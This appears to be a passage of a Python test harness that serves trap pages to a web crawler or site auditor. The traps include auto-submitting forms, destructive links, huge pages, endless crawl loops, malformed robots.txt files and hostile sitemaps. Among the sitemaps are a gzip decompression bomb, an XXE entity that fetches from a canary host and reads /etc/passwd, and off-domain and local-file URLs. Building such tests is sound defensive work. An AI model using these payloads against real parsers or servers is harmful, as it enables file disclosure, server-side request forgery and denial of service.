script("postmessage-storm", "channels", "const b = new BroadcastChannel('axe'), b2 = new BroadcastChannel('axe'); const c = new MessageChannel(); c.port2.onmessage = e => { c.port2.postMessage(1); };"
       " c.port1.onmessage = () => c.port1.postMessage(1); c.port1.postMessage(1); setInterval(() => { for (let i = 0; i < 50; i++) b.postMessage({topic: 'axe.start'}) }, 1)")  # fmt: skip
page("form-autosubmit", "other-ways", '<form id="f" method="post" action="/state/auto"><input name="n" value="x"><button id="b">Skicka</button></form><form id="g" action="/state/g"><button id="h" formmethod="post">x</button></form>'
     "<iframe title='r' name='r' srcdoc=\"<form id=i method=post action=/state/i></form><script>i.requestSubmit()</script>\"></iframe><script>f.requestSubmit(); b.click(); h.click(); f.target = 'r'; f.requestSubmit()</script>")  # fmt: skip
page("form-js-click", "hover-and-press", "<button onpointerdown=\"fetch('/state/ned', {method: 'POST'})\" onkeydown=\"if (event.key === 'Enter' || event.key === ' ') fetch('/state/tangent', {method: 'DELETE'})\">Visa</button>"
     "<a href='#x' onmouseenter=\"fetch('/state/hover', {method: 'POST'})\">Läs mer</a><summary onclick=\"navigator.sendBeacon('/state/fyr')\">Mer</summary>")  # fmt: skip
page("form-onchange", "input", "<label>Antal <input type='number' value='1' oninput=\"fetch('/state/antal', {method: 'POST'})\"></label><label><input type='checkbox' onchange=\"fetch('/state/kryss', {method: 'POST'})\">Prenumerera</label>")
page("links-destructive", "other-words", '<a href="/state/a/radera">Nyheter</a> <a href="/state/b">Säg upp avtal</a> <a href="/state/c?do=logout">Kontakt</a> <a href="/state/d" aria-label="Ta bort ärendet">×</a>'
     ' <a href="/state/e/avboka">Tid</a> <a href="/state/f">Sign out</a> <a href="/state/g?cmd=remove&amp;id=3">Sida 3</a>')  # fmt: skip
page("link-data-method", "other-libraries", '<a href="/x" hx-delete="/state/htmx" hx-trigger="load">Visa</a> <a href="/state/unpoly" up-method="post">Öppna</a> <a href="/state/confirm" data-confirm="Säkert?" rel="nofollow">Rensa</a>')
page("access-keys", "arrows", "<form method='post' action='/state/k'><label><input type='radio' name='a' onchange='this.form.submit()'>A</label><label><input type='radio' name='a' onchange='this.form.submit()'>B</label></form>")

# --- size


@second("dom-200k", "table")
async def big_table(asked: Asked) -> None:
    row = "<tr>" + "<td>1</td>" * 9 + "</tr>"
    await asked.answer(document("tabell", f"<table>{row * 20_000}</table>"))


@second("links-100k", "list")
async def link_list(asked: Asked) -> None:
    if asked.path != "/":
        await asked.answer(document(asked.path))
        return
    links = "".join(f'<li class="post"><a href="/s/{n}" title="Nr {n}">Nyhet {n}</a></li>' for n in range(100_000))
    await asked.answer(document("links-100k", f"<nav aria-label='Nyheter'><ul>{links}</ul></nav>"))


page("tall-page", "positioned", '<p style="position:absolute;top:3000000px;height:2px">långt ner</p><p style="margin-top:900000px">mitt</p>')
script("big-png", "canvas", "const c = document.createElement('canvas'); c.width = 10000; c.height = 10000; c.getContext('2d').fillRect(0, 0, 10000, 10000); document.body.append(c)")
script("images-5000", "by-style", "const s = document.createElement('style'); document.head.append(s); for (let i = 0; i < 5000; i++) { const d = document.createElement('i'); d.style.backgroundImage = `url(/b/${i}.png)`; d.textContent = 'x'; document.body.append(d) }")

# --- crawls


def tree(of: str, how: str, links: str) -> None:
    """A trap whose every page has the links, `{n}` the number of requests so far and `{path}` its own path."""

    async def show(asked: Asked) -> None:
        seen = len(asked.site.asked[asked.name])
        await asked.answer(document(f"Sida {asked.path}", links.replace("{n}", str(seen)).replace("{path}", asked.path.rstrip("/"))))

    second(of, how)(show)


tree("calendar", "paths", '<a href="/kalender/{n}/1">Nästa</a><a href="/kalender/{n}/2">Nästa dag</a><a href="/kalender/-{n}">Förra</a>')
tree("session-ids", "in-path", '<a href="/(S(a{n}b))/start">Start</a><a href="/(S(a{n}b))/om">Om</a><a href="/s;v={n}/kontakt">Kontakt</a>')
tree("path-loop", "upwards", '<a href="../sida/">upp</a><a href="{path}/sida/">ner</a><a href="./x/../sida/./">runt</a>')
tree("pagination", "offset", '<a href="/nyheter?start={n}0&amp;antal=10">Nästa</a><a href="/nyheter?antal=10&amp;start={n}0">Nästa</a>')
tree("query-params", "facets", "".join(f'<a href="/?filter[]={n}&amp;filter[]={{n}}#f{n}">Filter {n}</a> ' for n in range(15)))


def robots(of: str, how: str, body: bytes) -> None:
    async def show(asked: Asked) -> None:
        if asked.path == "/robots.txt":
            await asked.answer(body, kind="text/plain")
        else:
            asked.site.state_changes[asked.name] += asked.path.startswith("/hemligt") or of in ("robots-disallow-all", "robots-own-ua")
            await asked.answer(document(asked.path, '<a href="/hemligt/a">Hemligt</a><a href="/oppet">Öppet</a>'))

    second(of, how)(show)


robots("robots-disallow-all", "old-line-ends", b"# hej\rUser-Agent:*\rDisallow:/ # allt\r")
robots("robots-own-ua", "one-group", b"User-agent: GoogleBot\nUser-agent: TILLSYN\n\n# bara vi\nDisallow: /\n\nUser-agent: *\nDisallow:\n")
robots("robots-bom", "crawl-words", b"\xef\xbb\xbfuser-agent : *\r\ndisallow : /hemligt\r\nnoindex: /\r\n\x00\xff\xfe: x\r\n")


@second("robots-endless", "one-line")
async def endless_robots_line(asked: Asked) -> None:
    if asked.path == "/robots.txt":
        await asked.head("Content-Type: text/plain", "Transfer-Encoding: chunked")
        await asked.flood(b"8000\r\n" + b"Disallow: /a*" * 2520 + b"12345678\r\n")
    else:
        await asked.answer(document(asked.path))


@second("robots-timeout", "drip")
async def robots_drip(asked: Asked) -> None:
    if asked.path == "/robots.txt":
        await asked.head("Content-Type: text/plain", "Content-Length: 9000")
        for byte in b"User-agent: *\nDisallow: /\n" * 300:
            await asked.raw(bytes([byte]))
            await asyncio.sleep(0.4)
    else:
        asked.site.state_changes[asked.name] += 1
        await asked.answer(document(asked.path))


def sitemap(of: str, how: str, body: str | bytes, *lines: str) -> None:
    async def show(asked: Asked) -> None:
        if asked.path == "/robots.txt":
            await asked.answer(f"User-agent: *\nDisallow: /hemligt/\nSitemap: http://{asked.host}/karta.xml\n", kind="text/plain")
        elif asked.path.startswith("/karta"):
            text = body.replace("{n}", str(len(asked.site.asked[asked.name]))) if isinstance(body, str) else body
            await asked.answer(asked.site.filled(text, asked) if isinstance(text, str) else text, *lines, kind="text/xml")
        else:
            asked.site.state_changes[asked.name] += asked.path.startswith("/hemligt/")
            await asked.answer(document(asked.path, '<a href="/om">Om</a>'))

    second(of, how)(show)


_NS = 'xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"'
sitemap("sitemap-gz-bomb", "coded", gzip.compress(f"<urlset {_NS}>".encode() + b"<url><loc>/x</loc></url>" * 6_000_000), "Content-Encoding: gzip")
sitemap("sitemap-xxe", "parameter", f'<?xml version="1.0"?><!DOCTYPE u [<!ENTITY % a SYSTEM "http://{{{{canary}}}}/x.dtd"> %a; <!ENTITY b SYSTEM "file:///etc/passwd">]><urlset {_NS}><url><loc>http://{{{{own}}}}/&b;</loc></url></urlset>')
sitemap("sitemap-recursive", "growing", f"<sitemapindex {_NS}>" + "".join(f"<sitemap><loc>http://{{{{own}}}}/karta{{n}}-{i}.xml</loc></sitemap>" for i in range(40)) + "</sitemapindex>")
sitemap("sitemap-offdomain", "disguised", f"<urlset {_NS}>" + "".join(f"<url><loc>{place}</loc></url>" for place in (
    "http://{{own}}@{{canary}}/a", "//{{canary}}/b", "http://{{other}}/c", "HTTP://{{local}}/d", "file:///etc/passwd", "http://{{own}}/hemligt/e", "/./hemligt/../hemligt/f", "javascript:1",
)) + "</urlset>")  # fmt: skip
